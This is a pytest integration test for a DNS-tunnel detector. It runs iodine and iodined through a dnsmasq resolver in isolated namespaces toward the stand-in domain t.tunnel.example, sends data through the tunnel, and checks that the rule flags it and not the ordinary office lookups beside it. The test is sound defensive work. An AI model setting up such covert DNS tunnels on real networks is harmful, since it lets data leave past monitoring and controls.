"""iodine through a resolver, with ordinary questions beside it, from capture to finding."""

import random
import socket
from pathlib import Path

import pytest

from netmon.api.networks import Networks
from rules.traffic.dns_tunnel import DnsTunnel
from rules.traffic.dns_tunnel_settings import DnsTunnelSettings
from tests.support.local_watch import findings, need, recorded, watched
from tests.support.netns import Host, lan
from tests.support.waiting import eventually_sync

SECRET = "tunnel"
RANDOM = random.Random(3)


def question(name: str, number: int) -> bytes:
    labels = b"".join(len(label).to_bytes() + label.encode() for label in name.split("."))
    return number.to_bytes(2) + bytes.fromhex("01000001000000000000") + labels + b"\x00\x00\x01\x00\x01"


def ask(client: Host, resolver: Host, names: list[str]) -> None:
    with client.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(10)
        for number, name in enumerate(names):
            sock.sendto(question(name, number), (resolver.ipv4, 53))
            sock.recv(4096)


def test_iodine_is_found_and_the_office_beside_it_is_not(tmp_path: Path) -> None:
    need("iodine", "iodined", "dnsmasq")
    if not Path("/dev/net/tun").exists():
        pytest.skip("no /dev/net/tun here")
    path = tmp_path / "seen.pcap"
    with lan("client", "office", "resolver", "outside", sensor=True) as net:
        client, office, resolver, outside = (net[name] for name in ("client", "office", "resolver", "outside"))
        forward = ["dnsmasq", "-d", "-C", "/dev/null", "-R", "-h", "--cache-size=0"]
        forward += [f"--server=/tunnel.example/{outside.ipv4}", "--address=/example.org/192.0.2.9", "--pid-file"]
        serve = ["iodined", "-f", "-c", "-P", SECRET, "10.99.0.1", "t.tunnel.example"]
        dig = ["iodine", "-f", "-r", "-P", SECRET, resolver.ipv4, "t.tunnel.example"]
        logs = {name: tmp_path / f"{name}.log" for name in ("dnsmasq", "iodined", "iodine")}
        with (
            recorded(net, path),
            resolver.popen(*forward, log=logs["dnsmasq"]),
            outside.popen(*serve, log=logs["iodined"]),
        ):
            eventually_sync(lambda: "started" in logs["dnsmasq"].read_text())
            eventually_sync(lambda: "Listening to dns" in logs["iodined"].read_text())
            ask(office, resolver, [f"host-{n}.kantor.example.org" for n in range(200)])
            with client.popen(*dig, log=logs["iodine"]):
                eventually_sync(lambda: "Connection setup complete" in logs["iodine"].read_text(), within_s=40)
                with (
                    client.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock,
                    outside.socket(socket.AF_INET, socket.SOCK_DGRAM) as far,
                ):
                    far.bind(("10.99.0.1", 7))
                    far.settimeout(10)
                    for _ in range(20):
                        sock.sendto(RANDOM.randbytes(400), ("10.99.0.1", 7))
                        far.recv(4096)
    found = findings(DnsTunnel(DnsTunnelSettings(), Networks()), path)
    assert {finding.evidence["domain"] for finding in found} == {"tunnel.example"}
    assert {finding.evidence["source"] for finding in found} == {client.ipv4, resolver.ipv4}  # who asks, and for whom
    asked = min(row["at_ns"] for second in watched(path) for row in second.dns if b"tunnel.example" in row["name"])
    assert found[0].at - int(asked) / 1e9 <= 15  # iodine tries types and sizes of packets for 9 s before it is set up
    assert all(any(each.key == finding.key and each.cleared for each in found) for finding in found)
